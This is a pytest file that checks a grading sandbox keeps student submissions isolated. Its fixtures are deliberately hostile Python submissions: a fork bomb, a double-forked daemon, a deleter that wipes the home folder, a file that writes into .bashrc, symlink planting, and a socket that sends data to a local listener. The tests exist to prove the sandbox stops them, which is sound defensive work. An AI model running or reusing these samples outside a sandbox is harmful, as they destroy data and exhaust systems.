"""A submission cannot reach past its own case (triptych/crosscheck/sandbox/isolation.py).

Hostile submissions, written for the purpose, sit in a temporary class folder beside an honest one,
with a fake home folder: one writes next to itself and in the home, one reads its neighbour and
raises with the text it read, one deletes its neighbour and the home, one plants symlinks where
the checker reads and writes the files it exchanges with the child, one connects to a TCP port
this test listens on, one double-forks and setsid()s a daemon that keeps writing, one forks a few
hundred processes. `triptych check` grades the folder in a subprocess. Each hostile file gets a
verdict; the honest ones (one of them with a multiprocessing Pool) still pass; the class folder and
the home are byte for byte what they were; the listener accepted nothing; and no process that
carries the run's mark in its environment is left alive.

Where this kernel lacks a mechanism (no Landlock, no namespaces) the protections it gives are
skipped, not failed: `check --isolation` says which are off.
"""
from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest

from triptych.crosscheck.sandbox import protections

ROOT = Path(__file__).resolve().parents[1]
SECRET = f"SECRET-{uuid.uuid4().hex}"
FOUND = protections.probe()

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="isolation is Linux only")

HONEST = f'''
import numpy as np
# {SECRET}: another student's work, which no submission may read

def pairwise_similarities(Q, K):
    return Q @ np.swapaxes(K, -1, -2)
'''

POOLED = '''
import multiprocessing
import numpy as np

def _row(args):
    q, K = args
    return q @ K.T

def pairwise_similarities(Q, K):
    flat_q = Q.reshape(-1, Q.shape[-2], Q.shape[-1])
    flat_k = K.reshape(-1, K.shape[-2], K.shape[-1])
    with multiprocessing.get_context("fork").Pool(2) as pool:
        out = pool.map(_row, list(zip(flat_q, flat_k)))
    return np.stack(out).reshape(*Q.shape[:-1], K.shape[-2])
'''

HOSTILE = {
    "writer.py": '''
import os
import numpy as np

def _try(path):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass

_try(os.path.join(os.path.dirname(os.path.abspath(__file__)), "planted.txt"))
_try(os.path.join({home!r}, "planted.txt"))

def pairwise_similarities(Q, K):
    _try(os.path.join(os.path.dirname(os.path.abspath(__file__)), "planted_in_case.txt"))
    _try(os.path.join({home!r}, ".bashrc"))
    return np.zeros(1)
''',
    "reader.py": '''
import os

def pairwise_similarities(Q, K):
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "honest.py")) as f:
        raise ValueError(f.read())
''',
    "deleter.py": '''
import os, shutil

def pairwise_similarities(Q, K):
    for path in (os.path.join(os.path.dirname(os.path.abspath(__file__)), "honest.py"),):
        try:
            os.remove(path)
        except OSError:
            pass
    shutil.rmtree({home!r}, ignore_errors=True)
    raise RuntimeError("deleted what it could")
''',
    "network.py": '''
import socket
import numpy as np

def pairwise_similarities(Q, K):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(b"exfiltrated")
    except OSError:
        pass
    return np.zeros(1)
''',
    "daemon.py": '''
import os, time
import numpy as np

def pairwise_similarities(Q, K):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for path in ("still_here.txt", os.path.join({home!r}, "still_here.txt")):
                    try:
                        with open(path, "a") as f:
                            f.write("x")
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.2)
    return np.zeros(1)
''',
    "planter.py": '''
import os
import numpy as np

def pairwise_similarities(Q, K):
    # Symlinks where the checker reads and writes its files: its writes must never follow them.
    target = os.path.join({home!r}, ".bashrc")
    for n in range(1, 100):
        for name in (f"in-{{n}}.npz", f"out-{{n}}.npz", f"../in/in-{{n}}.npz", f"../output-{{n}}.txt"):
            try:
                os.symlink(target, name)
            except OSError:
                pass
    return Q @ np.swapaxes(K, -1, -2)
''',
    "forkbomb.py": '''
import os, time
import numpy as np

def pairwise_similarities(Q, K):
    for _ in range(400):
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
        except OSError:
            break
    return np.zeros(1)
''',
}


def _tree(folder: Path) -> dict[str, str]:
    found = {}
    for here, dirs, files in os.walk(folder):
        for name in dirs:
            found[os.path.relpath(os.path.join(here, name), folder) + "/"] = "dir"
        for name in files:
            path = os.path.join(here, name)
            found[os.path.relpath(path, folder)] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    return found


def _marked(mark: str) -> list[int]:
    """Processes whose environment carries the run's mark (the check process itself has exited)."""
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if mark.encode() in Path(f"/proc/{pid}/environ").read_bytes():
                alive.append(int(pid))
        except OSError:
            pass
    return alive


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("isolation")
    home, folder = base / "home", base / "class"
    home.mkdir()
    folder.mkdir()
    (home / ".bashrc").write_text("export PS1='$ '\n")
    (home / "grades.csv").write_text("alice,17\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    (folder / "honest.py").write_text(HONEST)
    (folder / "pooled.py").write_text(POOLED)
    for name, source in HOSTILE.items():
        (folder / name).write_text(textwrap.dedent(source.format(home=str(home), port=port)))
    before = (_tree(folder), _tree(home))
    mark = f"isolation-test-{uuid.uuid4().hex}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
    env.update(HOME=str(home), TRIPTYCH_TEST_MARK=mark, PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, str(ROOT / "cli.py"), "check", str(folder), "--json", "--timeout", "10"],
                          capture_output=True, text=True, env=env, cwd=ROOT, timeout=600)
    try:
        connection = listener.accept()[0]
        connection.close()
        accepted = True
    except BlockingIOError:
        accepted = False
    listener.close()
    rows = json.loads(done.stdout) if done.stdout.strip().startswith("[") else []
    by_file: dict[str, list] = {}
    for row in rows:
        by_file.setdefault(os.path.basename(row.get("file") or ""), []).append(row)
    return {"done": done, "by_file": by_file, "before": before, "after": (_tree(folder), _tree(home)),
            "accepted": accepted, "alive": _marked(mark)}


def _protected(key):
    return pytest.mark.skipif(protections.is_off(FOUND[key]), reason=f"{key}: {FOUND[key]}")


def test_every_submission_gets_a_verdict(graded):
    done = graded["done"]
    assert done.returncode == 1, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    for name in HOSTILE:
        rows = graded["by_file"].get(name)
        assert rows, f"{name}: no rows in {sorted(graded['by_file'])}"
        assert all(r["verdict"] != "pass" for r in rows), (name, rows)


def test_honest_submissions_still_pass_and_a_pool_still_works(graded):
    for name in ("honest.py", "pooled.py"):
        rows = graded["by_file"][name]
        assert rows and all(r["verdict"] == "pass" for r in rows), (name, rows)


@_protected("filesystem write")
def test_class_folder_and_home_unchanged(graded):
    assert graded["after"][0] == graded["before"][0], "the class folder changed"
    assert graded["after"][1] == graded["before"][1], "the home folder changed"


@_protected("filesystem read")
def test_a_neighbour_cannot_be_read(graded):
    rows = graded["by_file"]["reader.py"]
    assert all(r["verdict"] == "error" for r in rows)
    assert SECRET not in graded["done"].stdout + graded["done"].stderr


@_protected("network")
def test_no_connection_arrives(graded):
    assert not graded["accepted"]


@_protected("leftovers")
def test_no_process_outlives_the_check(graded):
    assert graded["alive"] == []


def test_isolation_flag_prints_each_protection():
    done = subprocess.run([sys.executable, str(ROOT / "cli.py"), "check", "--isolation"], capture_output=True,
                          text=True, cwd=ROOT, timeout=300)
    assert done.returncode == 0, done.stderr
    for key, _ in protections.PROTECTIONS:
        assert key in done.stdout
        state = "off" if protections.is_off(FOUND[key]) else "on"
        line = next(line for line in done.stdout.splitlines() if key in line)
        assert state in line.split(), line


def test_require_isolation_refuses_where_a_protection_is_off(monkeypatch, capsys):
    from triptych.cli import main

    off = dict(FOUND, network="off (no network namespace: user namespaces are disabled)")
    monkeypatch.setattr(protections, "probe", lambda: off)
    code = main(["check", str(ROOT / "tests" / "submissions" / "course_b_numpy.py"), "--require-isolation"])
    out = capsys.readouterr()
    assert code == 2
    text = (out.out + out.err).strip()
    assert len(text.splitlines()) == 1 and "network" in text


@pytest.mark.skipif(os.geteuid() != 0, reason="the watch stands in for a pids cgroup under root only")
def test_without_a_pids_cgroup_root_still_stops_a_fork_bomb(tmp_path, monkeypatch):
    """Root is exempt from RLIMIT_NPROC: where no pids cgroup can be made, the checker counts the
    submission's processes and kills them over the budget."""
    from triptych.crosscheck.sandbox import containment
    from triptych.crosscheck.session import check_file

    monkeypatch.setattr(containment, "make_cgroup", lambda: None)
    mark = f"isolation-test-{uuid.uuid4().hex}"
    monkeypatch.setenv("TRIPTYCH_TEST_MARK", mark)
    home = tmp_path / "home"
    home.mkdir()
    bomb = tmp_path / "bomb.py"
    bomb.write_text(textwrap.dedent(HOSTILE["forkbomb.py"]).replace("range(400)", "range(1000)"))
    report = check_file(str(bomb), ["pairwise_similarities"], timeout_s=20)
    assert report.rows and all(r["verdict"] != "pass" for r in report.rows)
    assert _marked(mark) == []


def test_a_lone_file_reads_its_own_helpers_but_not_a_neighbour_it_imports(tmp_path):
    """`from helpers import ...` beside a lone file is its author's code: readable. A neighbour that
    answers an exercise is another student's submission: unreadable even when imported."""
    from triptych.crosscheck.session import check_file

    (tmp_path / "helpers.py").write_text("import numpy as np\n\ndef transpose_last(K):\n    return np.swapaxes(K, -1, -2)\n")
    (tmp_path / "honest.py").write_text(HONEST)
    (tmp_path / "mine.py").write_text("from helpers import transpose_last\n\n"
                                      "def pairwise_similarities(Q, K):\n    return Q @ transpose_last(K)\n")
    (tmp_path / "copier.py").write_text("from honest import pairwise_similarities\n")
    assert check_file(str(tmp_path / "mine.py")).ok
    report = check_file(str(tmp_path / "copier.py"), ["pairwise_similarities"])
    if not protections.is_off(FOUND["filesystem read"]):
        assert all(r["verdict"] != "pass" for r in report.rows)
